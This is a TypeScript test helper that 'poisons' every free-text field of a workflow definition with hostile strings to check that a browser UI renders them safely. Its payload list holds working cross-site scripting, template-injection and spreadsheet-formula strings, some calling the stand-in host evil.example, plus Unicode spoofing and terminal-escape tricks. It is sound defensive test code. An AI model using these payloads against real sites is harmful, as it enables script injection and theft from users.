/** What somebody might write into every text of a definition to make a browser do something. */
import { readFileSync } from 'node:fs';
import { definitionKinds, type Definition } from '@flowmeter/engine/definition/kinds.ts';

const SCHEME = 'javascript';

/** Each tries to leave a mark: `hit` on the page, a dialog, a request to `evil.example`. */
const attacks = [
  `<img src=x onerror="globalThis.hit=1;alert(1)">`,
  `"><script>globalThis.hit=1;fetch('https://evil.example')</script>`,
  `'"--></style></textarea><svg/onload=globalThis.hit=1>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `${SCHEME}:globalThis.hit=1//`,
  '{{constructor.constructor("globalThis.hit=1")()}}${globalThis.hit=1}<%=7*7%>',
  `=HYPERLINK("https://evil.example","x")`,
  '\u202egnp.exe\u202c \u2066\u2067txt\u2069',
  'zero\u200bwidth\u200d\ufeff\u00ad\u2060',
  'مرحبا بالعالم שלום \u202e',
  `[a](javascript:hit=1) <a href="//evil.example" style="position:fixed;inset:0">x</a>`,
  'W'.repeat(180),
  '超长文本'.repeat(60),
  '😀👩‍👩‍👧‍👦e\u0301\u0301\u0301\u0301\u0301\u0301 \u0000\u0007\u001b[31m',
] as const;

/** One of them, in turn. */
export const attack = (turn: number): string => attacks[turn % attacks.length] ?? '';

interface Schema {
  type?: string;
  $ref?: string;
  $defs?: Record<string, Schema>;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  additionalProperties?: Schema | boolean;
  items?: Schema | boolean;
  prefixItems?: Schema[];
  pattern?: string;
  format?: string;
  enum?: unknown[];
  const?: unknown;
}

type Path = (string | number)[];

export interface Poisoned {
  definition: Definition;
  /** How many of its texts say something hostile now. */
  texts: number;
}

/** The same definition; every free text that its schema knows is hostile, what refers to things is not. */
export function poisoned(definition: Definition): Poisoned {
  const schema = schemaOf(definition.kind);
  let paths = textsIn(definition, schema, schema);
  for (;;) {
    const hostile = structuredClone(definition);
    paths.forEach((path, turn) => put(hostile, path, attack(turn)));
    const read = definitionKinds[definition.kind].schema.safeParse(hostile);
    if (read.success) return { definition: hostile, texts: paths.length };
    const refused = read.error.issues.map(({ path }) => path.join('/'));
    const kept = paths.filter(
      (path) => !refused.some((at) => `${path.join('/')}/`.startsWith(`${at}/`)),
    );
    if (kept.length === paths.length)
      throw new Error(`${definition.kind} ${definition.id} takes none of it`);
    paths = kept;
  }
}

/** As it is written from the Zod schemas. */
function schemaOf(kind: string): Schema {
  const file = new URL(`../../../schemas/${kind}.schema.json`, import.meta.url);
  return JSON.parse(readFileSync(file, 'utf8')) as Schema;
}

/** Names of things stay: a text that could be one is hostile only where it is words in two languages. */
const MAY_NAME = /^[\w.:/-]*$/;

function textsIn(value: unknown, schema: Schema, root: Schema, at: Path = []): Path[] {
  const forms = formsOf(schema, root);
  if (typeof value === 'string') {
    const isWords = at.at(-1) === 'zh' || at.at(-1) === 'en';
    const isFree = forms.some((one) => one.type === 'string' && isPlain(one));
    return isFree && (isWords || !MAY_NAME.test(value)) ? [at] : [];
  }
  if (typeof value !== 'object' || value === null) return [];
  const found = Object.entries(value).flatMap(([key, part]) => {
    const below = forms.flatMap((one) => partOf(one, key, Array.isArray(value)));
    const step = Array.isArray(value) ? Number(key) : key;
    return below.flatMap((one) => textsIn(part, one, root, [...at, step]));
  });
  return [...new Map(found.map((path) => [path.join('/'), path])).values()];
}

/** All forms that it may have, by its alternatives and references. */
function formsOf(schema: Schema, root: Schema): Schema[] {
  const { $ref, anyOf = [], oneOf = [], allOf = [] } = schema;
  const name = $ref?.split('/').at(-1);
  const referred = $ref === '#' ? root : name === undefined ? undefined : root.$defs?.[name];
  const others = [...anyOf, ...oneOf, ...allOf, ...(referred === undefined ? [] : [referred])];
  return [schema, ...others.flatMap((one) => formsOf(one, root))];
}

function partOf(
  { properties, additionalProperties, items, prefixItems }: Schema,
  key: string,
  isList: boolean,
) {
  const part = isList
    ? (prefixItems?.[Number(key)] ?? items)
    : (properties?.[key] ?? additionalProperties);
  return typeof part === 'object' ? [part] : [];
}

function isPlain(schema: Schema): boolean {
  return [schema.pattern, schema.format, schema.enum, schema.const].every(
    (one) => one === undefined,
  );
}

function put(document: object, path: Path, text: string): void {
  let place = document as Record<string | number, unknown>;
  for (const step of path.slice(0, -1)) place = place[step] as typeof place;
  place[path.at(-1) ?? ''] = text;
}
